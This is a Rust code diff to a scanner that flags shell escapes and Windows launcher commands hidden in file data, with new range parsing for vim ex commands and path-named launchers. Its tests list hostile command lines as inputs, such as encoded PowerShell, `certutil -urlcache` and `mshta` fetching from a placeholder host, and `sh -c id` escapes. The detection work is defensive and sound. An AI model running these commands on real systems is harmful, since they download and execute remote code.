@@ -397,11 +397,77 @@ const EX_BEFORE_BANG: [bool; 256] = {
                     | b'+'
                     | b'-'
                     | b'\''
+                    // The ends of the other addresses (`ex_range_start`): an uppercase or
+                    // special mark (`'A`, `'<`, `'>`, ...), a pattern (`/x/`, `?x?`, `\&`)
+                    // and the visual area (`*`).
+                    | b'A'
+                    ..=b'Z'
+                        | b'<'
+                        | b'>'
+                        | b'['
+                        | b']'
+                        | b'"'
+                        | b'^'
+                        | b'`'
+                        | b'/'
+                        | b'?'
+                        | b'&'
+                        | b'*'
             );
         b += 1;
     }
     table
 };
+
+/// How far back a search pattern address (`/pattern/`, `?pattern?`) is followed to its
+/// opening delimiter: a longer one is not taken for an address (no escape reported).
+pub const MAX_EX_PATTERN_BYTES: usize = 256;
+
+/// A mark's name after `'`: letters, digits and the special marks vim knows.
+fn is_mark(b: u8) -> bool {
+    b.is_ascii_alphanumeric() || b"<>[]\"^.`'".contains(&b)
+}
+
+/// Where the range ending at `end` of `before` starts, read backwards: line numbers and
+/// their separators and offsets (`1,2`, `.,$`, `%`, `;+1`), marks (`'a`, `'A`, `'<`),
+/// search patterns (`/x/`, `?x?`, the opening delimiter at most
+/// [`MAX_EX_PATTERN_BYTES`] before the closing one), the last pattern
+/// (`\/`, `\?`, `\&`) and the visual area (`*`). Review s9-r10: `/x/!cmd`, `?x?!cmd`,
+/// `'a!cmd` and `'a,'b!cmd` ran in `vim -es` after an appended line and were not found.
+/// Each token consumed is walked once, so the walk stays linear.
+fn ex_range_start(before: &[u8], mut end: usize) -> usize {
+    while end > 0 {
+        let b = before[end - 1];
+        let prev = end.checked_sub(2).map(|at| before[at]);
+        let mark = prev == Some(b'\'') && is_mark(b);
+        let last_pattern = prev == Some(b'\\') && matches!(b, b'/' | b'?' | b'&');
+        if mark || last_pattern {
+            end -= 2;
+        } else if b.is_ascii_digit()
+            || matches!(
+                b,
+                b',' | b';' | b'.' | b'$' | b'%' | b'+' | b'-' | b'*' | b'\''
+            )
+        {
+            end -= 1;
+        } else if matches!(b, b'/' | b'?') {
+            // Back to the unescaped opening delimiter, on the same line.
+            let body = &before[end.saturating_sub(1 + MAX_EX_PATTERN_BYTES)..end - 1];
+            let open = body
+                .iter()
+                .enumerate()
+                .rev()
+                .find(|&(i, &c)| c == b'\n' || (c == b && (i == 0 || body[i - 1] != b'\\')));
+            match open {
+                Some((i, &c)) if c == b => end = end - 1 - body.len() + i,
+                _ => break,
+            }
+        } else {
+            break;
+        }
+    }
+    end
+}
 
 /// Whether the text before a `!` makes it a shell escape of the ex command it ends
 /// (review s6-r10: vim ran `r !cmd`, `w !cmd`, `silent !cmd`, `1,1!cmd`, `%!cmd` and
@@ -420,22 +486,20 @@ fn ex_command_before(before: &[u8]) -> bool {
         .take(8)
         .take_while(|b| b.is_ascii_lowercase() || **b == b'!')
         .count();
-    let word = &before[end - word_len..end];
-    let word_start = end - word_len;
-    let word_whole = word_start == 0 || !before[word_start - 1].is_ascii_alphabetic();
-    let had_word = word_len > 0 && word_whole && EX_BANG_COMMANDS.contains(&word);
-    if word_len > 0 && !had_word {
+    let mut word_start = end - word_len;
+    let mut word_whole = word_start == 0 || !before[word_start - 1].is_ascii_alphabetic();
+    if word_len > 0 && word_start > 0 && before[word_start - 1] == b'\'' {
+        // `'a`: a mark (an address), and the letters after it are the command.
+        word_start += 1;
+        word_whole = true;
+    }
+    let word = &before[word_start..end];
+    let had_word = !word.is_empty() && word_whole && EX_BANG_COMMANDS.contains(&word);
+    if !word.is_empty() && !had_word {
         return false;
     }
     end = word_start;
-    let range_len = before[..end]
-        .iter()
-        .rev()
-        .take_while(|b| {
-            b.is_ascii_digit()
-                || matches!(b, b',' | b';' | b'.' | b'$' | b'%' | b'+' | b'-' | b'\'')
-        })
-        .count();
+    let range_len = end - ex_range_start(before, end);
     end -= range_len;
     end -= before[..end]
         .iter()
@@ -544,15 +608,23 @@ pub fn find_batch_command(bytes: &[u8]) -> Option<Command> {
 
 /// The bytes a command [`batch_command_at`] can find starts with: what cmd.exe skips
 /// before a program ([`program_start`]: blanks, `@`, `;`, `,`, `=`, `(`, the `c`, `i` and
-/// `f` of `call`, `if` and `for`), the first letter of a launcher in [`BATCH`], and the
-/// caret and quote cmd.exe removes from a program's name, in both cases.
+/// `f` of `call`, `if` and `for`), the first letter of a launcher in [`BATCH`], the
+/// caret and quote cmd.exe removes from a program's name, in both cases, and what a path
+/// starts with (a drive letter, `\\`, `%`).
 const BATCH_COMMAND_START: [bool; 256] = {
     let mut table = [false; 256];
-    let starts: &[u8] = b" \t\r@;,=(^\"cifCIF";
+    let starts: &[u8] = b" \t\r@;,=(^\"cifCIF%\\";
     let mut i = 0;
     while i < starts.len() {
         table[starts[i] as usize] = true;
         i += 1;
+    }
+    // A program named by its path starts with its drive letter (`program_by_path`).
+    let mut b = b'A';
+    while b <= b'Z' {
+        table[b as usize] = true;
+        table[b.to_ascii_lowercase() as usize] = true;
+        b += 1;
     }
     let mut i = 0;
     while i < BATCH.len() {
@@ -576,9 +648,23 @@ fn batch_command_at(bytes: &[u8], at: usize) -> Option<Command> {
         // Most lines of binary data start with no launcher's first letter: one compare
         // instead of sixteen (a '\n' is one byte in 256 of pixel data).
         let first = start.first().map(u8::to_ascii_lowercase)?;
-        if !BATCH.iter().any(|launcher| launcher[0] == first) && !matches!(first, b'^' | b'"') {
+        let drive = first.is_ascii_alphabetic() && start.get(1) == Some(&b':');
+        if !BATCH.iter().any(|launcher| launcher[0] == first)
+            && !matches!(first, b'^' | b'"' | b'%' | b'\\')
+            && !drive
+        {
             return None;
         }
+        // A program named by its path is matched by its file name (one copy of this
+        // line, for a first word that is a rooted path).
+        let renamed;
+        let start = match program_by_path(start) {
+            Some(line) => {
+                renamed = line;
+                &renamed[..]
+            }
+            None => start,
+        };
         // cmd.exe drops its escape character and the quotes in a program's name before it
         // looks the name up: `p^ower^shell`, `"powershell.exe"` run PowerShell. The line
         // is read as cmd.exe reads it (a copy of this one line, when its first word has
@@ -765,6 +851,39 @@ fn past_for_do(command: &[u8], from: usize) -> Option<usize> {
     None
 }
 
+/// The line at the start of `start` with its program named by its file name, when the
+/// first word is a rooted path, as cmd.exe runs it: `C:\Windows\System32\cmd.exe /c x`,
+/// `"%SystemRoot%\System32\WindowsPowerShell\v1.0\powershell.exe" -enc ...` (quoted,
+/// spaces and all), `\\?\C:\...\mshta.exe`; `%ComSpec%` is cmd.exe. Review s9-r10: a
+/// launcher named by its path was no command to this search. `None` for any other word.
+fn program_by_path(start: &[u8]) -> Option<Vec<u8>> {
+    let quoted = start.first() == Some(&b'"');
+    let body = if quoted { &start[1..] } else { start };
+    let line_end = memchr::memchr(b'\n', body).unwrap_or(body.len());
+    let end = if quoted {
+        memchr::memchr(b'"', &body[..line_end]).unwrap_or(line_end)
+    } else {
+        body[..line_end]
+            .iter()
+            .position(|b| matches!(b, b' ' | b'\t' | b'\r' | b'&' | b'|' | b'<' | b'>' | b'"'))
+            .unwrap_or(line_end)
+    };
+    let name = &body[..end];
+    let rest = &body[(end + usize::from(quoted && end < line_end)).min(line_end)..];
+    let rest = &rest[..memchr::memchr(b'\n', rest).map_or(rest.len(), |n| n + 1)];
+    if name.eq_ignore_ascii_case(b"%comspec%") {
+        return Some([&b"cmd"[..], rest].concat());
+    }
+    let rooted = name.starts_with(b"\\")
+        || name.starts_with(b"%")
+        || (name.len() > 2 && name[0].is_ascii_alphabetic() && name[1] == b':');
+    if !rooted {
+        return None;
+    }
+    let last = name.iter().rposition(|b| matches!(b, b'\\' | b'/'))?;
+    Some([&name[last + 1..], rest].concat())
+}
+
 /// The line at the start of `start` (to its `\n`, included) with the carets and double
 /// quotes of its first word removed as cmd.exe removes them (`^x` is `x`), or `None`
 /// when its first word has neither.
@@ -854,6 +973,45 @@ mod tests {
         );
     }
 
+    /// Review finding (s9-r10): a launcher named by its path, as batch files and droppers
+    /// name it (cmd.exe runs `C:\...\cmd.exe` as it runs `cmd`), was no command: each of
+    /// these lines got no alert after a line break in a DICOM text element.
+    #[test]
+    fn launchers_named_by_their_path_are_batch_commands() {
+        for line in [
+            &b"C:\\Windows\\System32\\cmd.exe /c calc\r\n"[..],
+            b"@\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -enc SQBFAFgA\r\n",
+            b"\"%ProgramFiles%\\PowerShell\\7\\pwsh.exe\" -c iex x\r\n",
+            b"%SystemRoot%\\System32\\mshta.exe http://x/a.hta\r\n",
+            b"%COMSPEC% /c powershell -enc SQBFAFgA\r\n",
+            b"\\\\?\\C:\\Windows\\System32\\certutil.exe -urlcache -f http://x a.exe\r\n",
+            b"d:/tools/rundll32.exe x.dll,Entry\r\n",
+        ] {
+            let text = [&b"x\r\n"[..], line].concat();
+            let found = find_batch_command(&text);
+            assert!(
+                found.as_ref().is_some_and(|c| c.severity == Severity::Alert),
+                "{:?}: {found:?}",
+                String::from_utf8_lossy(line)
+            );
+        }
+        // A path to something else, or prose with a drive letter, is no command.
+        for line in [
+            &b"C:\\Windows\\System32\\notepad.exe readme.txt\r\n"[..],
+            b"C:\\Program Files\\cmd tools\\readme\r\n",
+            b"%PATH% is set\r\n",
+            b"A: cmd prompt\r\n",
+        ] {
+            let text = [&b"x\r\n"[..], line].concat();
+            assert_eq!(
+                find_batch_command(&text),
+                None,
+                "{:?}",
+                String::from_utf8_lossy(line)
+            );
+        }
+    }
+
     /// The filters turn away only what the full checks reject: every byte outside them,
     /// before a `!` or after a separator, in front of escapes and command lines that are
     /// found with a byte inside them.
@@ -867,7 +1025,10 @@ mod tests {
             b":!sh -c id\n",
             b"w !sh -c id\n",
         ];
-        let lines: [&[u8]; 6] = [
+        let lines: [&[u8]; 9] = [
+            b"C:\\Windows\\System32\\cmd.exe /c calc\r\n",
+            b"%ComSpec% /c start evil.exe\r\n",
+            b"\\\\?\\C:\\Windows\\mshta.exe http://x\r\n",
             b"powershell -enc AAAA\r\n",
             b"@ call cmd /c start evil.exe\r\n",
             b"if exist x powershell -c x\r\n",
@@ -875,7 +1036,9 @@ mod tests {
             b"p^ower^shell -c x\r\n",
             b"\"mshta.exe\" http://x\r\n",
         ];
-        let prefixes: [&[u8]; 6] = [b"", b"\n", b"x\n", b"x|", b"x\n1,2", b"x\nr "];
+        let prefixes: [&[u8]; 10] = [
+            b"", b"\n", b"x\n", b"x|", b"x\n1,2", b"x\nr ", b"x\n/a", b"x\n?a", b"x\n'", b"x\n\\",
+        ];
         for b in 0..=255u8 {
             // The byte just before a `!`, after every kind of text that can precede it.
             for prefix in prefixes {
